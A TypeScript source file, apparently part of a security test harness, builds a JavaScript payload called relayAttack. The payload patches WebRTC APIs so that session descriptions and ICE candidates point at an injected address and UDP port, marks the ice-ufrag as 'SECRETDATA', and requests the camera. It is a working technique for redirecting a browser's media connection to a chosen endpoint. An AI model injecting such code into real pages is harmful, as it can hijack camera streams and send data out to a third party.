import type { Target } from './listeners';

/**
 * A program that has the reader's camera and changes what its end of the relay says about itself: the description, the
 * candidates, and what the language does for both.
 */
export const relayAttack = (lines: readonly string[], { address, udpPort }: Target): string => `
  const lines = ${JSON.stringify(lines)}.map((line) => line.replaceAll('ADDRESS', '${address}').replaceAll('PORT', '${udpPort}'));
  const own = Object.getOwnPropertyDescriptor(RTCPeerConnection.prototype, 'localDescription').get;
  Object.defineProperty(RTCPeerConnection.prototype, 'localDescription', {
    configurable: true,
    get() {
      const description = Reflect.apply(own, this, []);
      const sdp = description && description.sdp.replace(/a=candidate.*\\r\\n/g, '').replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:SECRETDATA');
      return description && { type: description.type, sdp: sdp + lines.join('\\r\\n') + '\\r\\n' };
    },
  });
  let next = 0;
  RTCIceCandidate.prototype.toJSON = () => ({ candidate: lines[next++ % lines.length].slice(2), sdpMid: '0', sdpMLineIndex: 0 });
  const { addEventListener } = EventTarget.prototype;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    if (type !== 'icecandidate') return Reflect.apply(addEventListener, this, [type, listener, options]);
    for (const line of lines) {
      const candidate = { candidate: line.slice(2), toJSON: () => ({ candidate: line.slice(2), sdpMid: '0' }) };
      setTimeout(() => listener({ candidate }), 500);
    }
  };
  const stream = await navigator.mediaDevices.getUserMedia({ video: true }).catch((error) => error);
  const label = stream.getVideoTracks?.()[0].label ?? String(stream);
  document.body.append(Object.assign(document.createElement('output'), { id: 'device', textContent: label }));`;
